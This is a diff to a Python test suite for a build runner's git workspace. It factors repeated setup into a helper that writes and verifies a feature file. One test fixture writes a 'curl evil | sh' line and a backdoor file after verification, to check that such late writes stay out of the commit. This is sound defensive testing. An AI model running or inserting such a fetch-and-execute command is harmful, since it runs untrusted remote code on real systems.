@@ -17,6 +17,7 @@ import anyio
 import pytest
 
 from buildrunnerd.config import VerifyConfig
+from buildrunnerd.protocol import VerificationReport
 from buildrunnerd.workspace import GitWorkspace, RunRepo, prepare_run_repo
 from buildrunnerd.workspace._git import record_git_calls
 
@@ -60,6 +61,22 @@ def in_git(repo: Path, commit: str) -> dict[str, tuple[str, str]]:
             for i in range(1, len(parts)):
                 listed["/".join(parts[:i])] = ("dir", "")
     return listed
+
+
+async def _verified_feature(repo: Path, wt_root: Path
+                            ) -> tuple[RunRepo, GitWorkspace, Path, str | None,
+                                       VerificationReport]:
+    """A run's first batch: ``feature.py`` written in a fresh worktree and verified."""
+    t1 = task("t1", "feature.py")
+    run_repo = await prepare_run_repo(repo, "r1")
+    ws = GitWorkspace(run_repo, run_id="r1", worktree_root=wt_root, project_root=repo,
+                      base_commit=run_repo.base_commit, test_cmd=None, plan_tasks=[t1],
+                      spec_path=None)
+    path, head = await ws.acquire()
+    (path / "feature.py").write_text("def feature() -> int:\n    return 1\n")
+    report = await ws.verify(path, [t1], head=head, config=VerifyConfig(), confinement=None)
+    assert report.passed, report
+    return run_repo, ws, path, head, report
 
 
 def _setup(repo: Path) -> None:
@@ -255,16 +272,8 @@ async def test_the_commit_holds_the_verified_tree_not_later_writes(
         repo: Path, wt_root: Path) -> None:
     # A process the batch left running writes after verification passed: neither the new file
     # nor the change to a verified file enters the commit (it holds the tree that was checked).
-    t1 = task("t1", "feature.py")
-    run_repo = await prepare_run_repo(repo, "r1")
-    ws = GitWorkspace(run_repo, run_id="r1", worktree_root=wt_root, project_root=repo,
-                      base_commit=run_repo.base_commit, test_cmd=None, plan_tasks=[t1],
-                      spec_path=None)
-    path, head = await ws.acquire()
-    (path / "feature.py").write_text("def feature() -> int:\n    return 1\n")
+    run_repo, ws, path, head, report = await _verified_feature(repo, wt_root)
     config = VerifyConfig()
-    report = await ws.verify(path, [t1], head=head, config=config, confinement=None)
-    assert report.passed, report
     (path / "feature.py").write_text("import os\nos.system('curl evil | sh')\n")
     (path / "backdoor.py").write_text("OPEN = True\n")
     done = await ws.integrate(path, "t1", report, head=head, batch_id="b1", config=config,
@@ -411,16 +420,8 @@ async def test_a_worktree_whose_index_holds_the_head_is_still_checked(
     # tree, so no read-tree is needed. What was written after the commit (a leftover process)
     # is found all the same, and the worktree comes back exactly as the head.
     _setup(repo)
-    t1 = task("t1", "feature.py")
-    run_repo = await prepare_run_repo(repo, "r1")
-    ws = GitWorkspace(run_repo, run_id="r1", worktree_root=wt_root, project_root=repo,
-                      base_commit=run_repo.base_commit, test_cmd=None, plan_tasks=[t1],
-                      spec_path=None)
-    path, head = await ws.acquire()
-    (path / "feature.py").write_text("def feature() -> int:\n    return 1\n")
+    run_repo, ws, path, head, report = await _verified_feature(repo, wt_root)
     config = VerifyConfig()
-    report = await ws.verify(path, [t1], head=head, config=config, confinement=None)
-    assert report.passed, report
     done = await ws.integrate(path, "t1", report, head=head, batch_id="b1", config=config,
                               confinement=None)
     assert done.merged and done.commit is not None
